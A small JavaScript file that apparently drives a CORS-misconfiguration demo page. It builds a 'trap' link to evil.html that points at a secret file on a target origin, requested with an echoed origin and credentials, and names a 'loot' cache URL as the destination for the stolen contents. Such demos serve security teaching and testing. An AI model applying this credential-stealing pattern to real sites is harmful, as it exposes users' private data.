const target = document.getElementById("target");
const trap = document.getElementById("trap");
const loot = document.getElementById("loot");

const show = () => {
  trap.textContent = trap.href = `${location.origin}/evil.html?${new URLSearchParams({from: target.value, to: loot.href})}`;
};

const main = async () => {
  const name = await (await fetch("/cache/new")).text();
  loot.textContent = loot.href = `${location.origin}/cache/${name}`;
  target.value = `${origins.target}/secret/secret.txt?${new URLSearchParams({origin: "{ECHO}", creds: "1"})}`;
  target.oninput = show;
  show();
};

main();
